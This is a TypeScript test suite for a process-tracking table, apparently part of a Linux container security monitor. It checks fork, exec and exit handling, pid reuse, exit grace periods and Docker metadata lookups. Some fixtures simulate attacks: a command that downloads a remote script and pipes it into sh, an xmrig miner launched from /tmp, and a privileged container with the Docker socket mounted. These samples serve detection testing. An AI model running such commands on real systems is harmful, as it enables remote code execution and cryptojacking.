    // Another command of the same loader: its walk stops at the loader, linked already.
    table.applyNow({ ...fork(901, 800), startTs: t0 + 2n, vpid: 11 });
    assert.equal(table.applyNow(described(901, 800, 'worker', t0 + 2n))?.proc.parent?.parent?.name, 'sh');
    // The grandparent execs: the next walk through the loader finds its new image.
    table.applyNow(described(700, 600, 'python3', BigInt(FAKE_BTIME) * 1_000_000_000n + 3_000_000_000n));
    table.applyNow({ ...fork(902, 800), startTs: t0 + 3n, vpid: 12 });
    assert.equal(table.applyNow(described(902, 800, 'worker', t0 + 3n))?.proc.parent?.parent?.name, 'python3');
    assert.equal((await table.lookup(900))?.parent?.parent?.name, 'python3', 'an earlier child, looked up again');
    // The loader changes uid: its children name the new one.
    table.applyNow({ kind: 'uid', pid: 800, tid: 800, ruid: 1000, euid: 1000, ts: 3n });
    assert.equal((await table.lookup(900))?.parent?.uid, 1000);
    // The loader exits and its grace ends: the worker is reparented to init.
    w.fp.add({ pid: 900, ppid: 1, comm: 'worker', argv: ['worker'], starttime: 500 });
    table.applyNow(exit(800));
    now += 5001;
    await table.onNotice({ kind: 'uid', pid: 1, tid: 1, ruid: 0, euid: 0, ts: 4n });
    assert.equal(table.get(800), undefined);
    const orphan = await table.lookup(900);
    assert.deepEqual([orphan?.ppid, orphan?.parent?.name], [1, 'systemd']);
  } finally {
    table.close();
    w.cleanup();
  }
});

/** Notices enough for applyNow() to sweep (it looks at the clock every few): uid changes of pid 1. */
function moreNotices(table: ProcessTable): void {
  for (let i = 0; i < 100; i++) table.applyNow({ kind: 'uid', pid: 1, tid: 1, ruid: 0, euid: 0, ts: 4n });
}

/** A seeded kernel-described table with a 5 s exit grace on a clock the test moves (`later`); `t0` a start time after seeding. */
function graceTable(): { table: ProcessTable; t0: bigint; later: (ms: number) => void; done: () => void } {
  const w = world();
  let now = 10_000;
  const table = fakeTable(w, { kernelExecs: true, exitGraceMs: 5000, now: () => now });
  table.seed();
  const done = (): void => {
    table.close();
    w.cleanup();
  };
  return { table, t0: BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n, later: (ms) => (now += ms), done };
}

test('applyNow drops exited entries past their grace as notices keep coming, without the sweeper', () => {
  const { table, t0, later, done } = graceTable();
  try {
    table.applyNow({ ...fork(800, 700), startTs: t0, vpid: 9 });
    table.applyNow(exit(800));
    later(4999);
    moreNotices(table);
    assert.equal(table.get(800)?.name, 'sh', 'in its grace');
    later(2);
    moreNotices(table);
    assert.equal(table.get(800), undefined, 'gone after it');
  } finally {
    done();
  }
});

test("an exited process's grace ends without taking the new process its pid went to", () => {
  const { table, t0, later, done } = graceTable();
  try {
    table.applyNow({ ...fork(800, 700), startTs: t0, vpid: 9 });
    table.applyNow({ ...fork(801, 700), startTs: t0, vpid: 10 });
    table.applyNow(exit(800));
    table.applyNow(exit(801));
    // 800 goes to a new process during the old one's grace (pid_max wrapped); 801 does not.
    table.applyNow({ ...fork(800, 600), startTs: t0 + 1_000_000_000n, vpid: 11 });
    later(5001);
    moreNotices(table);
    assert.equal(table.get(801), undefined, 'the other exited process: gone after its grace');
    assert.equal(table.get(800)?.ppid, 600, 'the new process under the pid stays');
    assert.equal(table.get(800)?.start_ts, t0 + 1_000_000_000n);
  } finally {
    done();
  }
});

test('garbage in /proc gives undefined, not exceptions', async () => {
  const w = world();
  const table = fakeTable(w);
  try {
    w.fp.add({ pid: 66, ppid: 1, comm: 'x', statText: '66 (x) Z' });
    w.fp.add({ pid: 67, ppid: 1, comm: 'y', statText: '\0\0garbage\n' });
    w.fp.add({ pid: 68, ppid: 1, comm: 'odd (name) )', argv: ['odd'], starttime: 50, omit: ['status', 'exe', 'cwd', 'cgroup', 'loginuid'] });
    assert.equal(table.seed(), 6, 'the two garbage entries are skipped');
    assert.equal(await table.lookup(66), undefined);
    assert.equal(await table.lookup(67), undefined);
    const odd = await table.lookup(68);
    assert.equal(odd?.name, 'odd (name) )');
    assert.equal(odd?.uid, undefined);
    assert.equal(odd?.parent?.pid, 1, 'ppid from stat when status is missing');
    assert.equal((await table.onNotice(exec(67)))?.proc.name, '');
    assert.equal(await table.onNotice({ kind: 'bogus' as never, pid: 1, tid: 1, ts: 0n }), undefined);
    assert.equal(table.stats.errors, 0);
  } finally {
    table.close();
    w.cleanup();
  }
});

test('threads are not processes; uid changes rename the user', async () => {
  const w = world();
  const table = fakeTable(w);
  try {
    table.seed();
    await table.onNotice({ kind: 'fork', pid: 700, tid: 701, ppid: 700, ts: 1n });
    assert.equal(table.get(701), undefined);
    const before = table.get(700)!;
    await table.onNotice({ kind: 'uid', pid: 700, tid: 700, ruid: 1000, euid: 1000, ts: 2n });
    const after = table.get(700)!;
    assert.equal(after.uid, 1000);
    assert.equal(after.user, 'miner');
    assert.equal(before.uid, 0, 'an event already emitted keeps its uid');
    await table.onNotice({ kind: 'exit', pid: 700, tid: 701, ts: 3n });
    assert.equal(table.stats.exits, 0, 'a thread exit is not a process exit');
  } finally {
    table.close();
    w.cleanup();
  }
});

test('the table is bounded and counts evictions', () => {
  const fp = new FakeProc();
  try {
    fp.add({ pid: 1, ppid: 0, comm: 'init', starttime: 1 });
    for (let i = 0; i < 40; i++) fp.add({ pid: 1000 + i, ppid: 1, comm: `w${i}`, starttime: 10 + i });
    const table = new ProcessTable({ procRoot: fp.root, clkTck: 100, maxEntries: 16, users: false, exe: false });
    assert.equal(table.seed(), 41);
    assert.equal(table.size, 16);
    assert.equal(table.stats.evictions, 25);
    table.close();
  } finally {
    fp.cleanup();
  }
});

test('container name and image from a runtime that answers, awaited with a timeout', async () => {
  const api = await startDockerStandIn();
  const w = world();
  const containers = new ContainerResolver({ clients: [new DockerClient({ socketPath: api.socketPath, timeoutMs: 5000 })] });
  const table = fakeTable(w, { containers, containerWaitMs: 10_000 });
  try {
    table.seed();
    await table.onNotice(fork(800, 700));
    w.fp.add({ pid: 800, ppid: 700, comm: 'curl', argv: ['curl', '-s', 'http://x/i.sh'], starttime: 400, cgroup: DOCKER_CGROUP, root: w.ctrRoot });
    const ev = (await table.onNotice(exec(800)))!;
    assert.equal(field('container.name', ev), 'web');
    assert.equal(field('container.image', ev), 'nginx:1.25');
    assert.equal(field('container.image.repository', ev), 'nginx');
    assert.equal(field('container.image.tag', ev), '1.25');
    assert.equal(field('container.privileged', ev), true);
    assert.equal(field('container.mount.dest[/var/run/docker.sock]', ev), '/var/run/docker.sock');
    assert.equal(field('container.info', ev), 'container_id=3ad7b26ded6d container_name=web');
  } finally {
    table.close();
    w.cleanup();
    await api.close();
  }
});

test('applyNow under a container wait: at once for a host process and an answered container; behind the runtime\'s answer while it is on its way', async () => {
  const api = await startDockerStandIn();
  const w = world();
  const containers = new ContainerResolver({ clients: [new DockerClient({ socketPath: api.socketPath, timeoutMs: 5000 })] });
  const table = fakeTable(w, { containers, containerWaitMs: 10_000, kernelExecs: true });
  try {
    table.seed();
    const startTs = BigInt(FAKE_BTIME) * 1_000_000_000n + 4_000_000_000n;
    const facts: KernelExecFacts = {
      ruid: 0, euid: 0, rgid: 0, egid: 0, loginuid: undefined, vpid: 9, tty: 0,
      exeFlags: EXE_KNOWN, exeDev: 0x2an, exeIno: 4244n, exeMtimeNs: 5n, exeCtimeNs: 6n, exeSize: 100n,
      exeMode: 0o100755, exeUid: 0, exeGid: 0,
      cgroupId: 1n, cgroupPath: '/', cgroup1Id: 0n, cgroup1Path: '',
      capEff: 0n, capPrm: 0n, capInh: 0n, env: undefined,
    };
    const inDocker = { ...facts, cgroupId: 78n, cgroupPath: `/system.slice/docker-${NGINX_ID}.scope` };
    const described = (pid: number, f: KernelExecFacts): ProcNotice => ({
      ...exec(pid), exec: { type: 'execve', comm: 'curl', argv: ['curl', 'x'], exepath: '/usr/bin/curl', uid: 0, ppid: 700, startTs, facts: f },
    });
    const host = table.applyNow(described(820, facts));
    assert.ok(host, 'a host process has no container to wait for');
    assert.equal(field('container.id', host), 'host');
    // The runtime has not answered for this container yet: the exec waits for it on onNotice.
    assert.equal(table.applyNow(described(821, inDocker)), undefined, 'declined while the lookup is in flight');
    assert.equal(table.get(821), undefined, 'the table unchanged');
    const waited = await table.onNotice(described(821, inDocker));
    assert.equal(waited && field('container.name', waited), 'web');
    // Answered: the next exec into it applies at once, with the runtime's answer.
    const now = table.applyNow(described(822, inDocker));
    assert.ok(now, 'applied at once');
    assert.equal(field('container.name', now), 'web');
    assert.equal(field('container.image', now), 'nginx:1.25');
  } finally {
    table.close();
    w.cleanup();
    await api.close();
  }
});

test('isSelf: the agent\'s tree, answered the same after an ancestor outside it is remembered, and a reused pid is a new process', async () => {
  const w = world();
  const table = fakeTable(w, { selfPid: 550, exitGraceMs: 0 });
  try {
    table.seed();
    // /proc has no 550: the agent's children come from fork notices of the agent.
    await table.onNotice(fork(551, 550));
    await table.onNotice(fork(552, 551));
    for (let i = 0; i < 3; i++) {
      assert.equal(table.isSelf(700), false, 'a shell in a container');
      assert.equal(table.isSelf(600), false);
      assert.equal(table.isSelf(551), true, "the agent's child");
      assert.equal(table.isSelf(552), true, "the agent's grandchild");
      assert.equal(table.isSelf(550), true);
    }
    await table.onNotice(fork(801, 700));
    assert.equal(table.isSelf(801), false, 'below the remembered ancestor');
    // bash (600, the remembered parent of 700) exits and its pid goes to a child of the agent's:
    // the new process is the agent's, and so, through it, is 700 as the table links it now.
    await table.onNotice(exit(600));
    await table.onNotice(fork(600, 552));
    assert.equal(table.isSelf(600), true, 'a new process under the pid');
    assert.equal(table.isSelf(700), true, 'its ancestry goes through the new process');
  } finally {
    table.close();
    w.cleanup();
  }
});

test('isSelf: ancestors outside the agent remembered each for itself (two busy parents), and a reused pid of either is a new process', async () => {
  const w = world();
  const table = fakeTable(w, { selfPid: 550, exitGraceMs: 0 });
  try {
    table.seed();
    await table.onNotice(fork(551, 550));
    await table.onNotice(fork(610, 1));
    await table.onNotice(fork(611, 610));
    await table.onNotice(fork(701, 600));
    // Children of two parents outside the agent, in turns (two exec storms at once), and the agent's.
    for (let i = 0; i < 3; i++) {
      assert.equal(table.isSelf(701), false, "bash's child");
      assert.equal(table.isSelf(611), false, "the other shell's child");
      assert.equal(table.isSelf(551), true, "the agent's child");
      assert.equal(table.isSelf(610), false);
      assert.equal(table.isSelf(600), false);
    }
    // Each remembered parent's pid goes to a child of the agent's: the new process is the agent's,
    // and so, as the table links them, are the children of the pid; the other parent's stay outside.
    await table.onNotice(exit(600));
    await table.onNotice(fork(600, 551));
    assert.equal(table.isSelf(600), true, 'a new process under the pid');
    assert.equal(table.isSelf(701), true, 'its ancestry goes through the new process');
    assert.equal(table.isSelf(611), false, 'the other parent is still remembered outside');
    await table.onNotice(exit(610));
    await table.onNotice(fork(610, 551));
    assert.equal(table.isSelf(611), true);
    assert.equal(table.isSelf(700), true, "bash's first child, through the new 600");
  } finally {
    table.close();
    w.cleanup();
  }
});

// ---- the real /proc ------------------------------------------------------------------------------

async function spawned(cmd: string, args: string[], cwd: string): Promise<ChildProcess> {
  const child = spawn(cmd, args, { cwd, stdio: 'ignore' });
  await new Promise<void>((res, rej) => {
    child.once('spawn', () => res());
    child.once('error', rej);
  });
  // spawn resolves after fork: wait until the exec shows in /proc (what the exec notice means).
  for (let i = 0; i < 300 && readProcessSync(child.pid!)?.comm !== cmd; i++) await new Promise((r) => setTimeout(r, 10));
  return child;
}

function whichSleep(): string {
  for (const p of ['/usr/bin/sleep', '/bin/sleep']) {
    try {
      return realpathSync(p);
    } catch {
      // try the next
    }
  }
  return 'sleep';
}

test('the real /proc: seed, then the exec of a child we spawned', async () => {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'mw-pt-real-')));
  const table = new ProcessTable({ hashWaitMs: 10_000 });
  let child: ChildProcess | undefined;
  try {
    assert.ok(table.seed() > 1);
    assert.equal(table.get(process.pid)?.pid, process.pid);
    child = await spawned('sleep', ['5'], dir);
    const pid = child.pid!;
    const ev = await table.onNotice({ kind: 'exec', pid, tid: pid, ts: BigInt(Date.now()) * 1_000_000n });
    assert.ok(ev);
    assert.equal(field('proc.name', ev), 'sleep');
    assert.equal(field('proc.exe', ev), 'sleep');
    assert.equal(field('proc.args', ev), '5');
    assert.equal(field('proc.cmdline', ev), 'sleep 5');
    assert.equal(field('proc.cwd', ev), dir);
    assert.equal(field('proc.ppid', ev), process.pid);
    assert.equal(field('proc.apid[1]', ev), process.pid);
    assert.equal(field('proc.pname', ev), table.get(process.pid)?.name);
    assert.equal(field('user.uid', ev), process.geteuid!());
    if (process.geteuid!() === 0) assert.equal(field('user.name', ev), 'root');
    assert.equal(field('container.id', ev), 'host');
    assert.equal(field('container.name', ev), 'host');
    assert.equal(field('proc.is_exe_upper_layer', ev), false);
    assert.equal(field('proc.is_exe_from_memfd', ev), false);
    assert.ok((field('proc.exe_ino', ev) as number) > 0);
    const start = field('proc.pid.ts', ev) as bigint;
    const nowNs = BigInt(Date.now()) * 1_000_000n;
    const off = start > nowNs ? start - nowNs : nowNs - start;
    assert.ok(off < 30_000_000_000n, `start_ts within seconds of now (off by ${off} ns)`);
    assert.equal(field('mw.proc.exe_sha256', ev), createHash('sha256').update(readFileSync(whichSleep())).digest('hex'));
    assert.equal(table.isSelf(pid), true, 'our own child');
    assert.equal(table.isSelf(process.pid), true);
    assert.equal(table.isSelf(1), false);
  } finally {
    child?.kill('SIGKILL');
    table.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the real /proc: lookup on a miss reads the process; fork notices copy the parent', async () => {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'mw-pt-real2-')));
  const table = new ProcessTable({ hash: false });
  let child: ChildProcess | undefined;
  try {
    child = await spawned('sleep', ['7'], dir);
    const pid = child.pid!;
    const info = await table.lookup(pid);
    assert.equal(info?.name, 'sleep');
    assert.deepEqual(info?.args, ['7']);
    assert.equal(info?.parent?.pid, process.pid);
    assert.equal(table.stats.lookupMisses >= 1, true);
    const ctx = await table.describe(pid);
    assert.equal(ctx?.container.id, 'host');
    assert.equal(ctx?.proc, info);
    // A fork notice for a pid we know nothing about reads what is there.
    const t2 = new ProcessTable({ hash: false });
    await t2.onNotice({ kind: 'fork', pid, tid: pid, ppid: process.pid, ts: 1n });
    assert.equal(t2.get(pid)?.parent?.pid, process.pid);
    // The child neither exec'd nor exited: its read, put off a moment (proc-fork.ts), is made.
    await t2.forksRead();
    assert.equal(t2.get(pid)?.parent?.pid, process.pid);
    assert.equal(t2.get(pid)?.start_ts, info?.start_ts, 'the exact start time from /proc, not the notice time');
    t2.close();
  } finally {
    child?.kill('SIGKILL');
    table.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('statLine helper round-trips through the table', () => {
  assert.match(statLine({ pid: 5, comm: 'a b', ppid: 1 }), /^5 \(a b\) S 1 /);
});

test("proc connector forks: the child's read waits for its exec or exit, and is made only for a child that did neither", async () => {
  const w = world();
  const table = fakeTable(w);
  try {
    table.seed();
    const startOf = (ticks: number): bigint => BigInt(FAKE_BTIME) * 1_000_000_000n + BigInt(ticks) * 10_000_000n;
    // A child that stays its parent's image (a subshell): its own session, group and start time
    // are read once the wait is over.
    w.fp.add({ pid: 901, ppid: 700, comm: 'sh', argv: ['sh', '-c', 'curl -s http://x/i.sh | sh'], exe: '/usr/bin/dash', starttime: 400, cgroup: DOCKER_CGROUP, nspid: [901, 9], root: w.ctrRoot, statText: statLine({ pid: 901, comm: 'sh', ppid: 700, starttime: 400, pgrp: 901, session: 77 }) });
    assert.equal(table.applyNow(fork(901, 700)), null, 'applied at once');
    assert.equal(table.get(901)?.parent, table.get(700));
    assert.equal(table.get(901)?.name, 'sh');
    assert.notEqual(table.get(901)?.start_ts, startOf(400), 'not read yet');
    await table.forksRead();
    assert.equal(table.get(901)?.start_ts, startOf(400), 'its exact start time, read');
    assert.equal(table.get(901)?.sid, 77);
    assert.equal(table.get(901)?.vpid, 9);
    assert.equal(table.get(901)?.parent, table.get(700));
    // A child whose exec arrives during the wait: the exec's read makes its entry, and the
    // fork's read, which would come after it, is not made over it.
    w.fp.add({ pid: 902, ppid: 700, comm: 'xmrig', argv: ['./xmrig'], exe: '/tmp/xmrig', starttime: 500, cgroup: DOCKER_CGROUP, nspid: [902, 10], root: w.ctrRoot });
    assert.equal(table.applyNow(fork(902, 700)), null);
    const ev = await table.onNotice(exec(902));
    assert.equal(ev?.proc.name, 'xmrig');
    const afterExec = table.get(902);
    await table.forksRead();
    assert.equal(table.get(902), afterExec, 'the exec entry stays');
    assert.equal(table.get(902)?.name, 'xmrig');
    // A child that exited during the wait is not read either: it stays its parent's image.
    w.fp.add({ pid: 903, ppid: 700, comm: 'sh', argv: ['sh'], exe: '/usr/bin/dash', starttime: 600, statText: statLine({ pid: 903, comm: 'sh', ppid: 700, starttime: 600, session: 88 }) });
    assert.equal(table.applyNow(fork(903, 700)), null);
    assert.equal(table.applyNow(exit(903)), null);
    await table.forksRead();
    assert.notEqual(table.get(903)?.sid, 88);
    // A child that drops to another user during the wait keeps its own uid through the read.
    w.fp.add({ pid: 904, ppid: 700, comm: 'sh', argv: ['sh'], exe: '/usr/bin/dash', starttime: 700, uid: 1000, gid: 1000, cgroup: DOCKER_CGROUP, root: w.ctrRoot });
    assert.equal(table.applyNow(fork(904, 700)), null);
    assert.equal(table.get(904)?.uid, 0);
    assert.equal(table.applyNow({ kind: 'uid', pid: 904, tid: 904, ruid: 1000, euid: 1000, ts: 1n }), null);
    await table.forksRead();
    assert.equal(table.get(904)?.start_ts, startOf(700), 'read');
    assert.equal(table.get(904)?.uid, 1000);
    assert.equal(table.get(904)?.user, 'miner', "named in the container's passwd");
    assert.equal(table.stats.forks, 4);
  } finally {
    table.close();
    w.cleanup();
  }
});

test('an exec storm\'s exits: each stays through its grace and goes after it, through the sweeps that compact the exit list', () => {
  const fp = new FakeProc();
  try {
    fp.add({ pid: 1, ppid: 0, comm: 'init', starttime: 1 });
    let now = 10_000;
    const table = new ProcessTable({ procRoot: fp.root, clkTck: 100, users: false, exe: false, exitGraceMs: 1000, now: () => now });
    table.seed();
    const N = 3000;
    const pid = (i: number): number => 5_000_000 + i;
    for (let i = 0; i < N; i++) {
      now = 10_000 + i;
      const startTs = BigInt(FAKE_BTIME) * 1_000_000_000n + BigInt(i) * 10_000_000n;
      assert.equal(table.applyNow({ kind: 'fork', pid: pid(i), tid: pid(i), ppid: 1, ts: startTs, startTs, vpid: pid(i) }), null);
      assert.equal(table.applyNow({ kind: 'exit', pid: pid(i), tid: pid(i), exitCode: 0, ts: startTs }), null);
    }
    // Swept every few notices: gone are those whose grace ended a sweep ago, kept those still in it.
    for (let i = 0; i < N; i++) {
      if (i < N - 1000 - 40) assert.equal(table.get(pid(i)), undefined, `${i}: past its grace`);
      if (i >= N - 1000) assert.equal(table.get(pid(i))?.pid, pid(i), `${i}: in its grace`);
    }
    now += 1000;
    for (let i = 0; i < 40; i++) table.applyNow({ kind: 'uid', pid: 1, tid: 1, ruid: 0, euid: 0, ts: 1n });
    assert.equal(table.size, 1, 'all gone but init');
    assert.equal(table.stats.exits, N);
    table.close();
  } finally {
    fp.cleanup();
  }
});
